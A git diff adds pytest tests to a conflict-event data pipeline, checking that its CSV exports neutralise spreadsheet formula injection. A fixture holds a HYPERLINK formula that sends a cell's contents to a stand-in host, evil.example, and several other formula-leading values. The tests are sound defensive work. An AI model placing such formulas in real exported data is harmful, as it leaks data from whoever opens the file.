@@ -6,16 +6,22 @@ import csv
 import datetime as dt
 import io
 import json
+import shutil
 import tracemalloc
+from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
 
 from ceasefire.cli import app
+from ceasefire.extract.evaluate import Event, write_predictions
 from ceasefire.intake.acled import COLUMNS
+from ceasefire.ledger.keys import load_private, new_key
 from ceasefire.model import ClaimDate
+from ceasefire.pipeline import assess_incidents, cluster_claims, extract, ingest, publish
 from ceasefire.publish.exports import ExportFormat, acled_row, export, ucdp_row, write_acled_csv
 from ceasefire.store import Store
+from tests.intake.test_formats import acled_csv
 from tests.publish.conftest import incident, words
 
 
@@ -111,3 +117,64 @@ class _Discard(io.StringIO):
 
     def write(self, text: str) -> int:
         return len(text)
+
+
+# -- CSV formula injection: a cell a spreadsheet would run as a formula is written as text ----------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory, syria_pack, extractor) -> Path:  # type: ignore[no-untyped-def]
+    """An ACLED row whose actor is a spreadsheet formula, west of Greenwich, through the whole pipeline."""
+    folder = tmp_path_factory.mktemp("hostile")
+    coded = folder / "acled.csv"
+    coded.write_text(acled_csv({"actor1": HOSTILE.replace('"', '""'), "longitude": "-3.2"}))
+    store = Store.open(str(folder / "hostile.db"))
+    assert not ingest(store, [coded], pack=syria_pack).rejected
+    extract(store, extractor)
+    cluster_claims(store, syria_pack)
+    assess_incidents(store, syria_pack)
+    store.close()
+    return folder / "hostile.db"
+
+
+def _exported(db: Path, format: str) -> str:
+    result = CliRunner().invoke(app, ["export", "--format", format, "--out", "-", "--db", str(db)])
+    assert result.exit_code == 0, result.output
+    return result.stdout
+
+
+@pytest.mark.parametrize(("format", "actor"), [("acled-csv", "actor1"), ("ucdp-csv", "side_a")])
+def test_a_formula_in_coded_data_is_neutralised_in_each_csv_export(hostile_db: Path, format: str, actor: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(_exported(hostile_db, format)))
+    assert row[actor] == "'" + HOSTILE
+    assert row["longitude"] == "-3.2"  # a number stays a number
+
+
+def test_the_json_export_keeps_the_raw_value(hostile_db: Path) -> None:
+    (element,) = json.loads(_exported(hostile_db, "json"))
+    assert HOSTILE in [a["name"] for a in element["actors"]]
+    (feature,) = json.loads(_exported(hostile_db, "geojson"))["features"]
+    assert feature["geometry"]["coordinates"][0] == -3.2
+
+
+def test_the_signed_bundle_csv_is_neutralised(hostile_db: Path, syria_pack, tmp_path: Path) -> None:
+    copy = tmp_path / "copy.db"
+    shutil.copy(hostile_db, copy)
+    new_key("body", tmp_path)
+    publish(Store.open(str(copy)), syria_pack, tmp_path / "bundle", load_private(tmp_path / "body.key"), "mission")
+    with (tmp_path / "bundle" / "events-acled.csv").open(newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    assert (row["actor1"], row["longitude"]) == ("'" + HOSTILE, "-3.2")
+
+
+def test_written_predictions_are_neutralised_too(tmp_path: Path) -> None:
+    event = Event(doc_id="d1", date=dt.date(2017, 1, 5), time_precision=1, sub_event_type="Armed clash",
+                  actor1=HOSTILE, actor2="@SUM(1+1)", location="-Ain", latitude=33.6, longitude=-3.2, notes="\tx")
+    write_predictions(tmp_path / "predicted.csv", [event])
+    with (tmp_path / "predicted.csv").open(newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    assert (row["actor1"], row["actor2"], row["location"], row["notes"]) == ("'" + HOSTILE, "'@SUM(1+1)", "'-Ain",
+                                                                             "'\tx")
+    assert (row["latitude"], row["longitude"]) == ("33.6", "-3.2")
